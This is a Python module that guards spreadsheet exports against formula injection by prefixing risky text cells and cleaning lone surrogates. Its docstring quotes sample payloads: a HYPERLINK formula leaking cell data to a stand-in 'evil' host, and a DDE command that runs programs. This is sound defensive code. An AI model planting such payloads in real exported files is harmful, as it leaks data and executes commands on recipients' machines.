"""Text that leaves the app into spreadsheets, neutralised against formula injection.

Why: free-text survey answers (comments) and imported labels go back out in the consultant
workbook. A cell whose text starts with = + - @ (or a TAB/CR that some programs strip before
parsing) is run as a formula by Excel or LibreOffice when typed, pasted or re-saved — e.g.
`=HYPERLINK("http://evil/?"&A1, "클릭")` leaks data, `+cmd|' /C calc'!A0` runs programs (DDE).
Prefixing a single quote makes the cell plain text in every spreadsheet program, and the reader
still sees the words the respondent wrote. Numbers are never touched: only `str` values.

Use `neutralize_formula(value)` on every text cell written by openpyxl or xlsxwriter (and CSV).
With xlsxwriter, also write text with `write_string` so a leading '=' is never parsed.

Text can also hold a lone surrogate ('\ud800', e.g. from a file decoded with surrogateescape), which no
file format can encode: writers stop with UnicodeEncodeError. `replace_surrogates` puts U+FFFD (�) in
its place, so the document is written and the reader sees where a character was lost.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NEUTRAL_PREFIX = "'"
_SURROGATE = re.compile("[\ud800-\udfff]")
REPLACEMENT = "\ufffd"


def has_surrogate(text: str) -> bool:
    """True when the text holds a surrogate code point, which no encoder writes."""
    return _SURROGATE.search(text) is not None


def replace_surrogates(text: str) -> str:
    """The text with every lone surrogate replaced by U+FFFD."""
    return _SURROGATE.sub(REPLACEMENT, text) if has_surrogate(text) else text


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read this text as a formula (after stripping leading spaces)."""
    return text.lstrip(" \u3000").startswith(FORMULA_STARTS)


def neutralize_formula(value: Any) -> Any:
    """The value to write into a spreadsheet cell: formula-like text gets a leading apostrophe, lone
    surrogates become U+FFFD (`replace_surrogates`).

    Non-strings (numbers, dates, None) are returned unchanged, so statistics stay numeric.
    A plain negative number written as text ("-3") is also prefixed: it is text in our data.
    """
    if not isinstance(value, str) or not value:
        return value
    value = replace_surrogates(value)
    if is_formula_like(value):
        return _NEUTRAL_PREFIX + value
    return value
